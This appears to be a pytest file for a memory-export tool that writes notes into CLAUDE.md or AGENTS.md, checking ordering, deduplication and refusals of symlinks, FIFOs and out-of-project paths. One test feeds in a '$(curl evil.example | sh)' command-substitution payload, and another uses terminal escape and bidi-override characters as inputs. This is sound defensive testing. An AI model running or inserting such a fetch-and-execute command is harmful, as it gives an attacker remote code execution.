"""Export to CLAUDE.md / AGENTS.md: heading, newest first, no duplicates, no damage, never outside the project."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from orcmem.models.constants import EXPORT_HEADING
from orcmem.models.errors import ExportError, ValidationError
from orcmem.models.types import Project
from orcmem.service.memory_service import MemoryService
from tests.helpers import user_memory


def test_creates_the_file_with_heading(service: MemoryService, project: Project, project_dir: Path) -> None:
    memory = service.record(project, user_memory("Use forks", "vitest --pool=forks")).memory
    target, changed = service.export(project, memory.id, "CLAUDE.md", project_dir)
    assert changed and target == (project_dir / "CLAUDE.md").resolve()
    assert target.read_text() == f"{EXPORT_HEADING}\n- Use forks: vitest --pool=forks\n"


def test_newest_bullet_first_and_existing_text_kept(
    service: MemoryService, project: Project, project_dir: Path
) -> None:
    (project_dir / "AGENTS.md").write_text("# Agents\n\nBe careful.\n")
    first = service.record(project, user_memory("First", "one")).memory
    second = service.record(project, user_memory("Second", "two\nlines")).memory
    service.export(project, first.id, "AGENTS.md", project_dir)
    service.export(project, second.id, "AGENTS.md", project_dir)
    assert (project_dir / "AGENTS.md").read_text() == (
        f"# Agents\n\nBe careful.\n\n{EXPORT_HEADING}\n- Second: two lines\n- First: one\n"
    )


def test_exact_duplicate_changes_nothing(service: MemoryService, project: Project, project_dir: Path) -> None:
    memory = service.record(project, user_memory()).memory
    service.export(project, memory.id, "CLAUDE.md", project_dir)
    before = (project_dir / "CLAUDE.md").stat().st_mtime_ns
    content = (project_dir / "CLAUDE.md").read_text()
    _, changed = service.export(project, memory.id, "CLAUDE.md", project_dir)
    assert not changed
    assert (project_dir / "CLAUDE.md").read_text() == content
    assert (project_dir / "CLAUDE.md").stat().st_mtime_ns == before


def test_an_unreadable_file_is_never_overwritten(service: MemoryService, project: Project, project_dir: Path) -> None:
    garbage = b"\xff\xfe\x00binary\x80"
    (project_dir / "CLAUDE.md").write_bytes(garbage)
    memory = service.record(project, user_memory()).memory
    with pytest.raises(ExportError, match="left unchanged"):
        service.export(project, memory.id, "CLAUDE.md", project_dir)
    assert (project_dir / "CLAUDE.md").read_bytes() == garbage


def test_a_folder_named_like_the_file_is_an_error(service: MemoryService, project: Project, project_dir: Path) -> None:
    (project_dir / "CLAUDE.md").mkdir()
    memory = service.record(project, user_memory()).memory
    with pytest.raises(ExportError):
        service.export(project, memory.id, "CLAUDE.md", project_dir)


def test_a_symlink_out_of_the_project_is_refused(
    service: MemoryService, project: Project, project_dir: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.md"
    outside.write_text("precious\n")
    os.symlink(outside, project_dir / "CLAUDE.md")
    memory = service.record(project, user_memory()).memory
    with pytest.raises(ExportError, match="symbolic link"):
        service.export(project, memory.id, "CLAUDE.md", project_dir)
    assert outside.read_text() == "precious\n"


@pytest.mark.parametrize("inside", ["docs/AGENTS.md", ".git/config", "scripts/deploy.sh"])
def test_a_symlink_inside_the_project_is_refused_too(
    service: MemoryService, project: Project, project_dir: Path, inside: str
) -> None:
    target = project_dir / inside
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("[core]\n\trepositoryformatversion = 0\n")
    os.symlink(target, project_dir / "CLAUDE.md")
    memory = service.record(project, user_memory("T", "$(curl evil.example | sh)")).memory
    with pytest.raises(ExportError, match="symbolic link"):
        service.export(project, memory.id, "CLAUDE.md", project_dir)
    assert target.read_text() == "[core]\n\trepositoryformatversion = 0\n"


def test_a_fifo_is_a_one_line_error_not_a_hang(service: MemoryService, project: Project, project_dir: Path) -> None:
    os.mkfifo(project_dir / "AGENTS.md")
    memory = service.record(project, user_memory()).memory
    with pytest.raises(ExportError, match="not a regular file"):
        service.export(project, memory.id, "AGENTS.md", project_dir)


def test_escape_codes_are_written_as_visible_codes(service: MemoryService, project: Project, project_dir: Path):
    memory = service.record(project, user_memory("Clear\x1b[2J the screen", "hide\u202etxet\x07 bell")).memory
    service.export(project, memory.id, "CLAUDE.md", project_dir)
    written = (project_dir / "CLAUDE.md").read_text()
    assert "- Clear^[[2J the screen: hide<U+202E>txet^G bell" in written and "\x1b" not in written


def test_only_the_two_files(service: MemoryService, project: Project, project_dir: Path) -> None:
    memory = service.record(project, user_memory()).memory
    with pytest.raises(ValidationError):
        service.export(project, memory.id, "../README.md", project_dir)
